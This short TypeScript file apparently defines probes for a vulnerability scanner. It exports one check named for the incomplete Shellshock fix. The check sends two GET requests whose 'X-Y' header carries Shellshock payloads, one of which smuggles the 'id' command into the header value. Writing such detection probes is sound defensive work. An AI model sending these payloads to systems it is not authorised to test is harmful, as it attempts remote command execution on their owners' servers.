import { type Proof, get, proof } from '#tags/proof/sketch.ts'

export const proofs: readonly Proof[] = [
  proof(
    'shellshock-incomplete-fix',
    get('/', { headers: { 'X-Y': '() { (a)=>\\' } }),
    get('/', { headers: { 'X-Y': '() { :;}; id' } }),
  ),
]
